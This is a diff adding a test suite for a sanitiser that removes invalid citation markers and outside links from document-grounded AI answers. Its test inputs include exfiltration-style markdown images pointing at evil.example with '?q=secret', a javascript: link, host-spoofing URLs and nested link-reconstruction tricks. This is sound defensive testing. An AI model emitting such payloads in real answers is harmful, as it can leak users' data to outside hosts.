@@ -1,0 +1,151 @@
+"""What of an answer from documents is told: citations that point somewhere, and no address that leads outside."""
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from processors.retrieval.answer_links import LinkRules
+from processors.retrieval.cite_sources import CitedText, Counts
+
+KNOWN = "See https://known.example/a?b=1 and http://evil.example/x.png for more."
+RULES = LinkRules(("docs.example",), KNOWN)
+
+
+def checked(answer: str, *, passages: int = 3) -> tuple[str, Counts]:
+    cited = CitedText(passages, RULES)
+    return cited.told(answer) + cited.end(), cited.counts
+
+
+@pytest.mark.parametrize(
+    ("answer", "told", "valid", "removed"),
+    [
+        ("It is blue [1]. It is red [9].", "It is blue [1]. It is red.", 1, 1),
+        ("Both [1, 9] and [9, 8].", "Both [1] and.", 1, 3),
+        ("All [1][2][7].", "All [1][2].", 2, 1),
+        ("All [1-3] and [2–5].", "All [1-3] and [2, 3].", 5, 2),
+        ("Wide 【1】 and 【2†source】【8†source】.", "Wide [1] and [2].", 2, 1),
+        ("As [source 2] says, and [Passage 12].", "As [2] says, and.", 1, 1),
+        ("Так говорит [источник 1] и [фрагмент 7].", "Так говорит [1] и.", 1, 1),
+        ("Foot [^1] and [^9].", "Foot [1] and.", 1, 1),
+        ("The light[9] is out.", "The light is out.", 0, 1),
+        ("**[1]** and *[4]*", "**[1]** and **", 1, 1),
+        ("[1]", "[1]", 1, 0),
+        ("[4]", "", 0, 1),
+        ("[0] is none", "[0] is none", 0, 0),
+    ],
+)
+def test_a_citation_that_points_nowhere_is_taken_out_and_counted(
+    answer: str, told: str, valid: int, removed: int
+) -> None:
+    assert checked(answer) == (told, Counts(valid, removed))
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "`a[10]` and ``b[7] ` c[8]``",
+        "```python\nrow = rows[10]\nprint([9])\n```",
+        "~~~\nx[10]\n~~~",
+        "a[10] = 3, foo_bar[7], f(x)[9], maxLen[5], argv[4], items[8]",
+        "values[10] = 5",
+        "in the range [10, 20], x ∈ [4, 5], the list [7, 8, 9]",
+        "on the interval [0, 1]",
+        "a year [2024]",
+        "a shape [10, x]",
+        "$x[9]$, $$y[7]$$, \\(z[8]\\) and \\[ w [6] \\]",
+        "it costs $5 and that $6",
+        "[not closed",
+        "a [note] and [x][y]",
+    ],
+)
+def test_brackets_of_code_and_maths_stay(answer: str) -> None:
+    assert checked(answer) == (answer, Counts())
+
+
+@pytest.mark.parametrize(
+    ("answer", "told"),
+    [
+        ("![x](http://evil.example/?q=secret) Hi.", " Hi."),
+        ("![x]( <http://evil.example/a b> 'title' ) Hi.", " Hi."),
+        ("![x](//evil.example/a)", ""),
+        ("![x](data:image/png;base64,AAAA)", ""),
+        ("![x](http://docs.example@evil.example/a)", ""),
+        ("![x](http://docs.example.evil.example/a)", ""),
+        ("![x](http://evil.example\\@docs.example/a)", ""),
+        ("![x](https://docs.example/a.png)", "![x](https://docs.example/a.png)"),
+        ("![x](https://img.docs.example/a.png)", "![x](https://img.docs.example/a.png)"),
+        ("[here](http://evil.example/a) it is", "here it is"),
+        ("[here](\nhttp://evil.example/a\n) it is", "here it is"),
+        ("[here](javascript:alert(1))", "here"),
+        ("[![i](http://evil.example/a)](http://evil.example/b)", ""),
+        ("[part](#part) and [docs](https://docs.example/)", "[part](#part) and [docs](https://docs.example/)"),
+        ("![x][r]\n\n[r]: http://evil.example/a", "![x][r]\n\n"),
+        ("> [r]:\n> http", "> [r]:\n> http"),
+        ("<img src=http://evil.example/x>", " "),
+        ("<IMG/SRC='http://evil.example/x'>", " "),
+        ("<img src=http://other.example/x", "img src=(link removed)"),
+        ("<http://other.example/>", " "),
+        ("vector<int> and a < b > c", "vector<int> and a < b > c"),
+        ("`![x](http://evil.example/a)`", "``"),
+        ("See https://known.example/a?b=1.", "See https://known.example/a?b=1."),
+        ("See https://known.example/a?b=secret.", "See (link removed)."),
+        ("See https://evil.example/(a)?", "See (link removed)?"),
+        ("www.evil.example", "(link removed)"),
+    ],
+)
+def test_a_link_that_leads_outside_is_taken_out(answer: str, told: str) -> None:
+    assert checked(answer)[0] == told
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![a]【9】(http://evil.example/x.png)",
+        "![a]<img src=q>(http://evil.example/x.png)",
+        "![a][9](http://evil.example/x.png)",
+        "![a]![b](http://e.example)(http://evil.example/x.png)",
+        "[r]【9】: http://evil.example/x.png\n\n![a][r]",
+        "[r][: http://evil.example/x.png](http://e.example)\n\n![a][r]",
+        "![a][(http://evil.example/x.png)](http://e.example)",
+        "![" + "a" * 700 + "](http://evil.example/x.png)",
+        "![" + "a" * 599 + "](http://evil.example/x.png)",
+    ],
+)
+def test_what_is_taken_out_makes_no_new_link(answer: str) -> None:
+    told, _ = checked(answer)
+    assert "](" not in told
+    assert "\n[r]:" not in f"\n{told}"
+
+
+PIECES = [
+    "[1]", "[9]", "【2】", "![", "](", "http://", "evil.example", ")", "[", "]", " ", "`", "```", "\n", "\n\n", "$",
+    "\\(", "\\)", "<", ">", "=", "a", "word", "1", ":", "www.", "h", "https://known.example/a?b=1", "(", "[r]: ", "«",
+    "~~~",
+]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=25), st.lists(st.integers(1, 6), min_size=1, max_size=30))
+@example(parts=["word", "[9]", "www.", "[1]"], steps=[1])
+def test_piece_by_piece_it_is_what_its_whole_is(parts: list[str], steps: list[int]) -> None:
+    answer = "".join(parts)
+    cited, told, at = CitedText(3, RULES), "", 0
+    for step in steps * (len(answer) // len(steps) + 1):
+        told += cited.told(answer[at : at + step])
+        at += step
+    told += cited.told(answer[at:]) + cited.end()
+    assert (told, cited.counts) == checked(answer)
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=25))
+def test_no_image_or_link_leads_outside_however_it_is_put_together(parts: list[str]) -> None:
+    told, _ = checked("".join(parts))
+    assert "](http" not in told.replace("](https://known", "")  # not even to what is known
+    assert checked(told)[0].count("](") == told.count("](")
+
+
+def test_what_is_held_back_is_bounded() -> None:
+    cited = CitedText(3, RULES)
+    told = sum(len(cited.told("[" + "a" * 40)) for _ in range(100))
+    assert told > 100 * 41 - 2_000
+    plain = CitedText(3, RULES)
+    assert plain.told("Nothing is held of a plain text.") == "Nothing is held of a plain text."
